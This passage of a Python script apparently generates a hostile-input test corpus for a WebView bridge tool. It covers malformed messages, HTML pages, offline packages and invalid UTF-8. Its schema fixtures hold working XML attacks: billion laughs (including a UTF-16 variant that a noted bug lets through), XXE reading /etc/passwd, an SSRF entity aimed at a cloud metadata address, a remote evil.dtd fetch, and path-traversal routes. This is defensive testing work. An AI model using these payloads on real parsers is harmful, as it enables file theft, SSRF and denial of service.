    ("no action", "hybrid://bridge?parameter=" + enc('{"a":1}'), "INVALID_MESSAGE"),
    ("an unknown action", "hybrid://bridge?parameter=" + enc('{"action":"nope"}'), "METHOD_NOT_FOUND"),
    ("a good call", "hybrid://bridge?parameter=" + enc('{"action":"echo","callback":"corpusIframeCb"}'), "OK"),
]:
    case("iframe src legacy URL with " + label, "iframe", url, expect)

# Answers to a callback that is no global function are an error of the page (a TypeError, as
# when a WebView evaluates `id(answer)`), never lost without a word.
UNDELIVERED = ['body callbackId only', 'callbackId number is read as a string', 'callbackId __proto__', 'callbackId of a pending-looking SDK id', 'callbackId empty string', 'a lone surrogate in the callbackId', 'legacy URL with a callback naming no function', 'legacy URL with a callback named __proto__', 'legacy URL with a callback naming a non-function global']
for row in M:
    if row["name"] in UNDELIVERED:
        row["undelivered"] = True
assert sum(1 for row in M if row.get("undelivered")) == len(UNDELIVERED)
jsonl("messages.jsonl", M)


# --------------------------------------------------------------------------------------------
# schemas/ + schemas.jsonl: every file must be refused with file:line: reason
# --------------------------------------------------------------------------------------------
S = []


def schema(name, fname, text, reason, line=None, **extra):
    write("schemas/" + fname, text)
    row = {"name": name, "file": REL + "/schemas/" + fname, "reason": reason}
    if line is not None:
        row["line"] = line
    row.update(extra)
    S.append(row)


UTF16KI = ("bug: the DOCTYPE ban is bypassed by a UTF-16 file (Schema/SchemaXMLReader.swift doctypeLine(in:) scans the raw bytes for ASCII "
           "'<!DOCTYPE', which UTF-16 interleaves with zero bytes), so the DTD is processed: internal entities expand (only libxml2's own "
           "loop check stops billion laughs). Refuse DTDs in the parser itself: abort in the XMLParserDelegate DTD callbacks "
           "(foundInternalEntityDeclarationWithName, foundExternalEntityDeclarationWithName, foundElementDeclarationWithName, ...) or transcode to UTF-8 before the scan")


XMLDECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
schema("billion laughs", "billion-laughs.xml", XMLDECL + """<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<protocol name="lolz" version="1">
  <action name="lol.a"><description>&lol9;</description></action>
</protocol>
""", "DOCTYPE", line=2)
schema("quadratic blowup", "quadratic-blowup.xml", XMLDECL + '<!DOCTYPE p [<!ENTITY a "' + "x" * 5000 + '">]>\n<protocol name="q" version="1"><action name="quad.a"><description>' + "&a;" * 2000 + "</description></action></protocol>\n", "DOCTYPE", line=2)
schema("external entity (file)", "xxe-file.xml", XMLDECL + """<!DOCTYPE protocol [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<protocol name="xxe" version="1"><action name="xxe.file"><description>&xxe;</description></action></protocol>
""", "DOCTYPE", line=2)
schema("external entity (http)", "xxe-http.xml", XMLDECL + """<!DOCTYPE protocol [ <!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>
<protocol name="xxe2" version="1"><action name="xxe.http"><description>&xxe;</description></action></protocol>
""", "DOCTYPE", line=2)
schema("external parameter entity", "xxe-parameter.xml", XMLDECL + """<!DOCTYPE protocol [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<protocol name="xxe3" version="1"/>
""", "DOCTYPE", line=2)
schema("external DTD", "external-dtd.xml", XMLDECL + """<!DOCTYPE protocol SYSTEM "file:///etc/passwd">
<protocol name="dtd" version="1"/>
""", "DOCTYPE", line=2)
schema("DOCTYPE after comments", "doctype-late.xml", XMLDECL + "<!-- one -->\n<!-- two -->\n<!DOCTYPE protocol>\n<protocol name=\"late\" version=\"1\"/>\n", "DOCTYPE", line=4)
# UTF-16 hides "<!DOCTYPE" from a byte scan for ASCII; the file must still never expand entities.
schema("billion laughs in UTF-16", "billion-laughs-utf16.xml",
       ('\ufeff<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        + "".join(' <!ENTITY lol%d "%s">\n' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10) for i in range(1, 10))
        + ']>\n<protocol name="lolz16" version="1"><action name="lol.utf16"><description>&lol9;</description></action></protocol>\n').encode("utf-16-le"),
       "")
schema("external entity in UTF-16", "xxe-utf16.xml",
       ('\ufeff<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE protocol [ <!ENTITY xxe SYSTEM "file:///etc/hostname"> ]>\n'
        '<protocol name="xxe16" version="1"><action name="xxe.utf16"><description>&xxe;</description></action></protocol>\n').encode("utf-16-le"),
       "DOCTYPE")
schema("an internal entity in UTF-16", "entity-utf16.xml",
       ('\ufeff<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE protocol [ <!ENTITY e "injected.by.entity"> ]>\n'
        '<protocol name="ent16" version="1"><action name="&e;"/></protocol>\n').encode("utf-16-le"),
       "DOCTYPE")
schema("XInclude is not processed", "xinclude.xml", XMLDECL + """<protocol name="xi" version="1" xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="/etc/passwd" parse="text"/>
</protocol>
""", "unknown element", line=3)
schema("unclosed root", "unclosed-root.xml", XMLDECL + '<protocol name="u" version="1">\n  <action name="u.a"/>\n', "malformed XML")
schema("mismatched closing tag", "mismatched-tag.xml", XMLDECL + '<protocol name="m" version="1">\n  <action name="m.a">\n  </param>\n</protocol>\n', "malformed XML", line=4)
schema("unquoted attribute", "unquoted-attribute.xml", XMLDECL + '<protocol name=q version="1"/>\n', "malformed XML", line=2)
schema("duplicate attribute", "duplicate-attribute.xml", XMLDECL + '<protocol name="d" name="e" version="1"/>\n', "malformed XML", line=2)
schema("undeclared entity", "undeclared-entity.xml", XMLDECL + '<protocol name="e" version="1">\n<action name="e.a"><description>&nbsp;</description></action>\n</protocol>\n', "malformed XML", line=3)
schema("unterminated comment", "unterminated-comment.xml", XMLDECL + '<protocol name="c" version="1">\n<!-- never closed\n<action name="c.a"/>\n</protocol>\n', "malformed XML")
schema("unterminated CDATA", "unterminated-cdata.xml", XMLDECL + '<protocol name="cd" version="1">\n<action name="cd.a"><description><![CDATA[ open\n</description></action></protocol>\n', "malformed XML")
schema("empty file", "empty.xml", "", "malformed XML")
schema("whitespace only", "whitespace-only.xml", "   \n\n\t\n", "malformed XML")
schema("text only", "text-only.xml", "hello, this is not XML\n", "malformed XML", line=1)
schema("two root elements", "two-roots.xml", XMLDECL + '<protocol name="a" version="1"/>\n<protocol name="b" version="1"/>\n', "malformed XML", line=3)
schema("NUL byte", "nul-byte.xml", XMLDECL + '<protocol name="n" version="1">\n<action name="n.a">\x00</action>\n</protocol>\n', "malformed XML", line=3)
schema("'<' inside an attribute", "lt-in-attribute.xml", XMLDECL + '<protocol name="a<b" version="1"/>\n', "malformed XML", line=2)
schema("XML declaration not first", "late-declaration.xml", '\n\n<?xml version="1.0"?>\n<protocol name="x" version="1"/>\n', "malformed XML", line=3)
schema("an unknown element", "unknown-element.xml", XMLDECL + '<protocol name="k" version="1">\n  <action name="k.a">\n    <paramm name="x" type="string"/>\n  </action>\n</protocol>\n', "unknown element", line=4)
schema("a wrong root element", "wrong-root.xml", XMLDECL + '<schema name="w" version="1">\n  <action name="w.a"/>\n</schema>\n', "root", line=2)
schema("an unknown type", "unknown-type.xml", XMLDECL + '<protocol name="t" version="1">\n  <action name="t.a">\n    <param name="x" type="strng"/>\n  </action>\n</protocol>\n', "unknown type", line=4)
schema("an unknown facet", "unknown-facet.xml", XMLDECL + '<protocol name="f" version="1">\n  <action name="f.a">\n    <param name="x" type="string" maxLen="3"/>\n  </action>\n</protocol>\n', "maxLen", line=4)
schema("a bad regex", "bad-regex.xml", XMLDECL + '<protocol name="r" version="1">\n  <action name="r.a">\n    <param name="x" type="string" pattern="([a-z"/>\n  </action>\n</protocol>\n', "regular expression", line=4)
schema("min greater than max", "min-over-max.xml", XMLDECL + '<protocol name="mm" version="1">\n  <action name="mm.a">\n    <param name="x" type="integer" min="10" max="1"/>\n  </action>\n</protocol>\n', "min", line=4)
schema("a non-numeric min", "nan-min.xml", XMLDECL + '<protocol name="nm" version="1">\n  <action name="nm.a">\n    <param name="x" type="number" min="NaN"/>\n  </action>\n</protocol>\n', "min", line=4)
schema("an example that fails its action", "bad-example.xml", XMLDECL + '<protocol name="ex" version="1">\n  <action name="ex.a">\n    <param name="x" type="integer" required="true"/>\n    <example>{"x": "twelve"}</example>\n  </action>\n</protocol>\n', "example", line=5)
schema("an example that is not JSON", "example-not-json.xml", XMLDECL + '<protocol name="ej" version="1">\n  <action name="ej.a">\n    <example>{x: 1</example>\n  </action>\n</protocol>\n', "example", line=4)
schema("an action without a name", "action-without-name.xml", XMLDECL + '<protocol name="an" version="1">\n  <action>\n  </action>\n</protocol>\n', "name", line=3)
schema("a param without a name", "param-without-name.xml", XMLDECL + '<protocol name="pn" version="1">\n  <action name="pn.a">\n    <param type="string"/>\n  </action>\n</protocol>\n', "name", line=4)
schema("a duplicate action in one file", "duplicate-action.xml", XMLDECL + '<protocol name="dup" version="1">\n  <action name="dup.a"/>\n  <action name="dup.a"/>\n</protocol>\n', "duplicate action", line=4)
schema("a bad boolean attribute", "bad-boolean.xml", XMLDECL + '<protocol name="bb" version="1">\n  <action name="bb.a" ordered="maybe"/>\n</protocol>\n', "ordered", line=3)
schema("a negative timeout", "bad-timeout.xml", XMLDECL + '<protocol name="bt" version="1">\n  <action name="bt.a" timeout="-5"/>\n</protocol>\n', "timeout", line=3)
schema("invalid UTF-8 in an attribute", "invalid-utf8.xml", XMLDECL.encode() + b'<protocol name="bad\xff\xfe" version="1">\n</protocol>\n', "", line=2)
schema("a truncated UTF-8 sequence at the end", "truncated-utf8.xml", XMLDECL.encode() + b'<protocol name="t8" version="1"><action name="t8.a"><description>caf\xc3', "")
# A directory whose name ends in .xml: the loader must say it cannot read it, not crash.
write("schemas/directory.xml/README", "A directory named like a schema file (the loader must refuse it, not crash).\n")
S.append({"name": "params nested 10k deep (generated; run in a child process)", "generate": "deepParams:10000", "reason": "deep"})
S.append({"name": "a directory named *.xml", "file": REL + "/schemas/directory.xml", "reason": "cannot read"})
jsonl("schemas.jsonl", S)


# --------------------------------------------------------------------------------------------
# files.jsonl: CLI runs (HTML pages, offline packages, invalid UTF-8 in every kind of file)
# --------------------------------------------------------------------------------------------
F = []


def cli(name, args, status, stderr=None, stdout=None, notOutput=None, knownIssue=None):
    row = {"name": name, "args": args, "status": status}
    if stderr is not None:
        row["stderr"] = stderr
    if stdout is not None:
        row["stdout"] = stdout
    if notOutput is not None:
        row["notOutput"] = notOutput
    if knownIssue is not None:
        row["knownIssue"] = knownIssue
    F.append(row)


# ---- malformed HTML: runs without crashing; the probe script says the bridge still works ----
write("html/mock.json", json.dumps({"probe": {"result": {"ok": True}}}, indent=2) + "\n")
PROBE = "<script>bridge.call('probe', {}).then(function (r) { console.log('probe ok', r.ok); });</script>"


def html(name, fname, text, status, stdout=None, stderr=None, notOutput=None, knownIssue=None, timeout="5000"):
    write("html/" + fname, text)
    cli(name, ["run", REL + "/html/" + fname, "--mock", REL + "/html/mock.json", "--timeout", timeout], status,
        stderr=stderr, stdout=stdout, notOutput=notOutput, knownIssue=knownIssue)


html("HTML: unterminated script at EOF", "unterminated-script.html", PROBE + "\n<script>console.log('tail ran');", 0, stdout="probe ok true")
html("HTML: unterminated comment swallows the rest", "unterminated-comment.html", PROBE + "\n<!-- never closed <script>console.log('hidden');</script>", 0,
     stdout="probe ok true", notOutput="hidden")
# A tag cut off by the end of the file is dropped, as a browser's parser does.
html("HTML: unterminated script tag", "unterminated-tag.html", PROBE + "\n<script src=\"x.js\"", 0, stdout="probe ok true")
html("HTML: unterminated attribute quote", "unterminated-quote.html", PROBE + "\n<div id=\"x><script>console.log('in quote');</script>", 0, stdout="probe ok true")
html("HTML: NUL bytes in text and attributes", "nul-bytes.html", "<p>a\x00b</p><div id=\"n\x00\">\x00</div>\n" + PROBE, 0, stdout="probe ok true")
html("HTML: a NUL byte in a script", "nul-in-script.html", PROBE + "\n<script>var s = 'a\x00b'; console.log('nul len', s.length);</script>", 0, stdout="nul len 3")
html("HTML: a NUL byte as code is a syntax error", "nul-as-code.html", PROBE + "\n<script>var x = 1;\x00 console.log('after the NUL');</script>", 1, stdout="probe ok true", stderr="SyntaxError")
html("HTML: </script> inside a JS string ends the script", "script-in-string.html",
     PROBE + "\n<script>var s = '</script>'; console.log('never');</script>", 1, stdout="probe ok true", notOutput="never")
html("HTML: nested script tags", "nested-script.html", PROBE + "\n<script><script>console.log('x')</script></script>", 1, stdout="probe ok true")
html("HTML: a script inside a comment is not run", "script-in-comment.html", PROBE + "\n<!-- <script>console.log('commented');</script> -->", 0,
     stdout="probe ok true", notOutput="commented")
html("HTML: CDATA and legacy comment markers in a script", "cdata-script.html", PROBE + "\n<script><!--\n//<![CDATA[\nconsole.log('cdata ok');\n//]]>\n--></script>", 0, stdout="cdata ok")
html("HTML: mixed-case script tags", "mixed-case.html", "<ScRiPt>console.log('mixed ok');</sCrIpT>\n" + PROBE, 0, stdout="mixed ok")
html("HTML: non-JS script types are skipped", "template-type.html", "<script type=\"text/template\"><%= nope %></script>\n" + PROBE, 0, stdout="probe ok true")
html("HTML: a src that does not exist", "missing-src.html", PROBE + "\n<script src=\"no/such/file.js\"></script>", 1, stderr="not found")
html("HTML: a src that is a directory", "directory-src.html", PROBE + "\n<script src=\".\"></script>", 1, stderr="cannot be read: a directory, not a file")
html("HTML: a src with a bridge URL", "bridge-src.html", PROBE + "\n<script src=\"hybrid://x?parameter=%7B%7D\"></script>", 1, stderr="hybrid://")
html("HTML: an http src without --offline", "http-src.html", PROBE + "\n<script src=\"https://cdn.example.com/x.js\"></script>", 1, stderr="--offline")
html("HTML: a src that is not valid UTF-8", "bad-utf8-src.html", PROBE + "\n<script src=\"../utf8/bad-script.js\"></script>", 1, stderr="UTF-8")
html("HTML: an empty file", "empty.html", "", 0)
html("HTML: a byte-order mark before the script", "bom.html", "\ufeff" + PROBE, 0, stdout="probe ok true")
html("HTML: CR-only line endings", "cr-only.html", "<html>\r<body>\r" + PROBE + "\r<script>\rthrow new Error('line four');\r</script>\r", 1, stderr="line four")
# (20 s: the nesting is the point; domino parses it in 1.3–1.6 s in a debug build alone, and a
# loaded CI machine took it past 5 s.)
html("HTML: 10k nested divs", "deep-divs.html", "<div>" * 10000 + PROBE + "</div>" * 10000, 0, stdout="probe ok true", timeout="20000")
html("HTML: 2000 scripts", "many-scripts.html", "".join("<script>globalThis.n = (globalThis.n || 0) + 1;</script>" for _ in range(2000)) + "<script>console.log('scripts', n);</script>" + PROBE, 0, stdout="scripts 2000")
html("HTML: a syntax error does not stop the next script", "syntax-error.html", "<script>let = ;</script>\n" + PROBE, 1, stdout="probe ok true", stderr="SyntaxError")
html("HTML: malformed bridge URLs in iframes", "bad-iframes.html", PROBE + """
<script>
['hybrid://x', 'hybrid://x?parameter=%zz', 'hybrid://x?parameter=[]', 'hybrid://x?parameter=%7B%7D'].forEach(function (u) {
  var f = document.createElement('iframe'); f.src = u; (document.body || document.documentElement).appendChild(f);
});
</script>""", 1, stdout="probe ok true", stderr="invalid message")
html("HTML: a page that spins forever", "runaway.html", PROBE + "\n<script>while (true) {}</script>", 3, stderr="time limit", timeout="1000")


# ---- offline packages: bad manifests and hostile files ----
OFF = "offline/"
PAGE_URL = "https://m.example.com/p/index.html"
SCRIPT_URL = "https://cres.example.com/m/js/a.js"
GOOD_JS = "console.log('module script ran');\n"


def md5(b):
    return hashlib.md5(b).hexdigest()


def package(case_dir, routes=None, packages=None, files=None, config=None, extra=None, page=None):
    base = OFF + case_dir + "/"
    shutil.rmtree(os.path.join(HERE, base), ignore_errors=True)
    if routes is None:
        routes = json.dumps({"map": {PAGE_URL: "pages/index.html"}})
    if routes is not False:
        write(base + "routes.json", routes)
    if page is None:
        page = "<script src=\"%s\"></script>\n%s\n" % (SCRIPT_URL, PROBE)
    write(base + "pages/index.html", page)
    if packages is None:
        packages = json.dumps([{"moduleName": "m", "resourceId": "1", "hitRule": "cres.example.com/m", "usable": 1, "version": 1, "resourcePath": "modules/m"}])
    if packages is not False:
        write(base + "packages.json", packages)
    if files is None:
        files = {"js/a.js": GOOD_JS.encode()}
    for rel, data in files.items():
        write(base + "modules/m/" + rel, data)
    if config is not None:
        write(base + "config.json", config)
    for rel, data in (extra or {}).items():
        write(base + rel, data)


def manifest(entries):
    return json.dumps({k: {"localPath": lp, "md5": m} for k, (lp, m) in entries.items()}, indent=2)


def offline(name, case_dir, status, stderr=None, stdout=None, notOutput=None, knownIssue=None, url=PAGE_URL):
    cli(name, ["run", url, "--offline", REL + "/" + OFF + case_dir, "--mock", REL + "/html/mock.json", "--timeout", "5000"], status,
        stderr=stderr, stdout=stdout, notOutput=notOutput, knownIssue=knownIssue)


good_manifest = manifest({"js/a.js": ("js/a.js", md5(GOOD_JS.encode()))})
package("good", extra={"modules/m/file.json": good_manifest})
offline("offline: a sound package runs (control)", "good", 0, stdout="module script ran")
package("routes-bad-json", routes='{"map": {', extra={"modules/m/file.json": good_manifest})
offline("offline: routes.json is not JSON", "routes-bad-json", 2, stderr="invalid JSON")
package("routes-not-map", routes='{"routes": {}}', extra={"modules/m/file.json": good_manifest})
offline("offline: routes.json has no map", "routes-not-map", 2, stderr="routes.json")
package("routes-number", routes=json.dumps({"map": {PAGE_URL: 5}}), extra={"modules/m/file.json": good_manifest})
offline("offline: a route that is not a string", "routes-number", 2, stderr="must be a string")
package("routes-list", routes="[]", extra={"modules/m/file.json": good_manifest})
offline("offline: routes.json is a list", "routes-list", 2, stderr="routes.json")
package("routes-deep", routes='{"map": ' + "[" * 100000 + "]" * 100000 + "}", extra={"modules/m/file.json": good_manifest})
offline("offline: routes.json nested 100k deep", "routes-deep", 2, stderr="nested deeper")
package("route-missing-page", routes=json.dumps({"map": {PAGE_URL: "pages/nope.html"}}), extra={"modules/m/file.json": good_manifest})
offline("offline: a route to a missing page", "route-missing-page", 2, stderr="cannot read")
package("route-escape", routes=json.dumps({"map": {PAGE_URL: "../../../../../../../../etc/hostname"}}), extra={"modules/m/file.json": good_manifest})
offline("offline: a route escaping the root with ../", "route-escape", 2, stderr="escapes")
package("packages-bad-json", packages="[{", extra={"modules/m/file.json": good_manifest})
offline("offline: packages.json is not JSON", "packages-bad-json", 2, stderr="invalid JSON")
package("packages-not-list", packages='{"x": 1}', extra={"modules/m/file.json": good_manifest})
offline("offline: packages.json is not a list", "packages-not-list", 2, stderr="expected a list")
package("packages-no-hitrule", packages=json.dumps([{"moduleName": "m", "resourcePath": "modules/m"}]), extra={"modules/m/file.json": good_manifest})
offline("offline: a module without hitRule", "packages-no-hitrule", 2, stderr="has no hitRule")
package("packages-no-path", packages=json.dumps([{"moduleName": "m", "hitRule": "cres.example.com/m"}]), extra={"modules/m/file.json": good_manifest})
offline("offline: a module without resourcePath", "packages-no-path", 2, stderr="has no resourcePath")
package("packages-bad-field", packages=json.dumps([{"moduleName": "m", "hitRule": ["x"], "resourcePath": "modules/m"}]), extra={"modules/m/file.json": good_manifest})
offline("offline: a hitRule that is a list", "packages-bad-field", 2, stderr="must be a string")
package("manifest-missing")
offline("offline: a module without file.json", "manifest-missing", 2, stderr="missing manifest")
package("manifest-bad-json", extra={"modules/m/file.json": '{"js/a.js": {"localPath": '})
offline("offline: file.json is not JSON", "manifest-bad-json", 2, stderr="invalid JSON")
package("manifest-list", extra={"modules/m/file.json": "[]"})
offline("offline: file.json is a list", "manifest-list", 2, stderr="expected")
package("manifest-no-md5", extra={"modules/m/file.json": json.dumps({"js/a.js": {"localPath": "js/a.js"}})})
offline("offline: a file.json entry without md5", "manifest-no-md5", 2, stderr="needs string localPath and md5")
package("manifest-md5-number", extra={"modules/m/file.json": json.dumps({"js/a.js": {"localPath": "js/a.js", "md5": 5}})})
offline("offline: an md5 that is a number", "manifest-md5-number", 2, stderr="needs string localPath and md5")
package("path-escape", extra={"modules/m/file.json": manifest({"js/a.js": ("../../../../outside.js", md5(GOOD_JS.encode()))}), "../outside.js": GOOD_JS})
offline("offline: a localPath escaping the root with ../", "path-escape", 1, stderr="escapes the package root", notOutput="module script ran")
package("resourcepath-escape", packages=json.dumps([{"moduleName": "m", "hitRule": "cres.example.com/m", "resourcePath": "../good/modules/m"}]))
offline("offline: a resourcePath escaping the root", "resourcepath-escape", 1, stderr="escapes the package root", notOutput="module script ran")
package("absolute-path", extra={"modules/m/file.json": manifest({"js/a.js": ("/etc/hostname", "0" * 32)})})
offline("offline: an absolute localPath stays inside the module", "absolute-path", 1, stderr="file is missing")
package("md5-mismatch", extra={"modules/m/file.json": manifest({"js/a.js": ("js/a.js", md5(b"something else"))})})
offline("offline: an md5 mismatch", "md5-mismatch", 1, stderr="md5 mismatch", notOutput="module script ran")
package("md5-garbage", extra={"modules/m/file.json": manifest({"js/a.js": ("js/a.js", "not-an-md5")})})
offline("offline: an md5 that is not hex", "md5-garbage", 1, stderr="md5 mismatch", notOutput="module script ran")
package("missing-file", files={}, extra={"modules/m/file.json": good_manifest})
offline("offline: a listed file that is missing", "missing-file", 1, stderr="file is missing")
package("not-listed", extra={"modules/m/file.json": manifest({"js/b.js": ("js/a.js", md5(GOOD_JS.encode()))})})
offline("offline: a URL not listed in file.json", "not-listed", 1, stderr="not listed")
package("not-covered", page="<script src=\"https://other.example.com/x.js\"></script>\n" + PROBE, extra={"modules/m/file.json": good_manifest})
offline("offline: a URL no module covers", "not-covered", 1, stderr="no offline package covers")
package("hitrule-boundary", page="<script src=\"https://cres.example.com/mx/js/a.js\"></script>\n" + PROBE, extra={"modules/m/file.json": good_manifest})
offline("offline: a hit rule matching only a name prefix", "hitrule-boundary", 1, stderr="no offline package covers")
package("blacklisted-url", config=json.dumps({"resourceBlackList": [SCRIPT_URL]}), extra={"modules/m/file.json": good_manifest})
offline("offline: a black-listed URL", "blacklisted-url", 1, stderr="black-listed", notOutput="module script ran")
package("blacklisted-suffix", config=json.dumps({"suffixBlackList": [".js"]}), extra={"modules/m/file.json": good_manifest})
offline("offline: a black-listed suffix", "blacklisted-suffix", 1, stderr="suffix", notOutput="module script ran")
package("unusable-module", packages=json.dumps([{"moduleName": "m", "hitRule": "cres.example.com/m", "usable": 0, "resourcePath": "modules/m"}]), extra={"modules/m/file.json": good_manifest})
offline("offline: an unusable module", "unusable-module", 1, stderr="not usable", notOutput="module script ran")
package("package-disabled", config=json.dumps({"usable": 0}), extra={"modules/m/file.json": good_manifest})
offline("offline: the whole package disabled", "package-disabled", 1, stderr="disabled", notOutput="module script ran")
package("config-bad-json", config="{usable: 1", extra={"modules/m/file.json": good_manifest})
offline("offline: config.json is not JSON", "config-bad-json", 2, stderr="invalid JSON")
BAD_JS = b"console.log('caf\xe9');\n"
package("script-bad-utf8", files={"js/a.js": BAD_JS}, extra={"modules/m/file.json": manifest({"js/a.js": ("js/a.js", md5(BAD_JS))})})
offline("offline: a served script that is not UTF-8", "script-bad-utf8", 1, stderr="not valid UTF-8")
package("page-bad-utf8", page=b"<script>console.log('\xff');</script>", extra={"modules/m/file.json": good_manifest})
offline("offline: a routed page that is not UTF-8", "page-bad-utf8", 2, stderr="UTF-8")
cli("offline: a package directory that does not exist", ["run", PAGE_URL, "--offline", REL + "/offline/no-such-dir"], 2, stderr="no route")
offline("offline: a page URL no route maps", "good", 2, stderr="no route", url="https://m.example.com/other.html")

# ---- invalid UTF-8 in every kind of file ----
U = "utf8/"
write(U + "bad-mock.json", b'{"probe": {"result": {"s": "caf\xe9"}}}\n')
write(U + "overlong-mock.json", b'{"probe": {"result": {"s": "\xc0\xaf"}}}\n')
write(U + "surrogate-mock.json", b'{"probe": {"result": {"s": "\xed\xa0\x80"}}}\n')
write(U + "truncated-mock.json", b'{"probe": {"result": {"s": "\xe2\x82"}}}\n')
write(U + "five-byte-mock.json", b'{"probe": {"result": {"s": "\xf8\x88\x80\x80\x80"}}}\n')
write(U + "bad-key-mock.json", b'{"pro\xffbe": {"result": 1}}\n')
write(U + "deep-mock.json", '{"probe": {"result": ' + "[" * 100000 + "]" * 100000 + "}}\n")
write(U + "probe.js", "bridge.call('probe', {}).then(function (r) { console.log('probe ok', JSON.stringify(r)); }, function (e) { console.log('probe failed', e.code); });\n")
write(U + "bad-page.js", b"console.log('\xff\xfe');\n")
write(U + "bad-page.html", b"<script>console.log('ok');</script><p>\xc3\x28</p>\n")
write(U + "bad-script.js", b"console.log('\xe9t\xe9');\n")
write(U + "bad-schema/bad.xml", XMLDECL.encode() + b'<protocol name="u8" version="1">\n  <action name="u8.a">\n    <description>\xff\xfe</description>\n  </action>\n</protocol>\n')
write(U + "bad-payload.json", b'{"method": "probe", "params": {"s": "\xff"}}\n')
write(U + "bad-payload.jsonl", b'{"method": "probe", "params": {}}\n{"method": "probe", "params": {"s": "\xc3"}}\n')
write(U + "bad-capabilities.json", b'{"capabilities": [{"id": "x\xff", "pages": ["file://**"], "permissions": ["*"]}]}\n')
write(U + "bad-routes.json", b'[{"id": "\xff", "url": "x", "expiresAt": 0}]\n')
write(U + "bad-test/bad.test.js", b"test('t\xff', () => {});\n")
write(U + "schemas/probe.xml", XMLDECL + '<protocol name="probe" version="1">\n  <action name="probe"/>\n</protocol>\n')
MOCKMSG = "invalid JSON"
for fname, label in [("bad-mock.json", "a Latin-1 byte"), ("overlong-mock.json", "an overlong encoding"),
                     ("surrogate-mock.json", "a UTF-8 encoded surrogate"), ("truncated-mock.json", "a truncated sequence"),
                     ("five-byte-mock.json", "a five-byte sequence"), ("bad-key-mock.json", "an invalid key")]:
    cli("invalid UTF-8 in a mock file: " + label, ["run", REL + "/utf8/probe.js", "--mock", REL + "/utf8/" + fname], 2, stderr=fname)
cli("a mock file nested 100k deep", ["run", REL + "/utf8/probe.js", "--mock", REL + "/utf8/deep-mock.json"], 2, stderr="nested deeper")
write(U + "deep-completion.js", "var a = 1;\nfor (var i = 0; i < 9000; i++) a = [a];\nconsole.log('built');\na;\n")
cli("a .js page whose completion value is nested 9000 deep", ["run", REL + "/utf8/deep-completion.js"], 0, stdout="built")
cli("invalid UTF-8 in a .js page", ["run", REL + "/utf8/bad-page.js"], 2, stderr="UTF-8")
cli("invalid UTF-8 in an .html page", ["run", REL + "/utf8/bad-page.html"], 2, stderr="UTF-8")
cli("invalid UTF-8 in a schema file (lint)", ["lint", "--schemas", REL + "/utf8/bad-schema"], 2, stderr="bad.xml:")
cli("invalid UTF-8 in a schema file (run)", ["run", REL + "/utf8/probe.js", "--schemas", REL + "/utf8/bad-schema"], 2, stderr="bad.xml:")
cli("invalid UTF-8 in a payload file", ["validate", "--schemas", REL + "/utf8/schemas", REL + "/utf8/bad-payload.json"], 2, stderr="UTF-8")
cli("invalid UTF-8 in a JSON Lines payload file", ["validate", "--schemas", REL + "/utf8/schemas", REL + "/utf8/bad-payload.jsonl"], 2, stderr="UTF-8")
cli("invalid UTF-8 in a capability file", ["run", REL + "/utf8/probe.js", "--capabilities", REL + "/utf8/bad-capabilities.json"], 2, stderr="bad-capabilities.json")
cli("invalid UTF-8 in a route table", ["run", REL + "/utf8/probe.js", "--routes", REL + "/utf8/bad-routes.json"], 2, stderr="bad-routes.json")
cli("invalid UTF-8 in a test file", ["test", REL + "/utf8/bad-test"], 1, stdout="UTF-8")
cli("a control run with the sound files", ["run", REL + "/utf8/probe.js", "--mock", REL + "/html/mock.json", "--schemas", REL + "/utf8/schemas"], 0, stdout='probe ok {"ok":true}')
cli("a payload file that is not there", ["validate", "--schemas", REL + "/utf8/schemas", REL + "/utf8/no-such.json"], 2, stderr="cannot read")
cli("a schema directory that is a file", ["lint", "--schemas", REL + "/utf8/probe.js"], 2, stderr="not a readable directory")

jsonl("files.jsonl", F)

print("messages: %d, schemas: %d, files: %d, total: %d" % (len(M), len(S), len(F), len(M) + len(S) + len(F)))
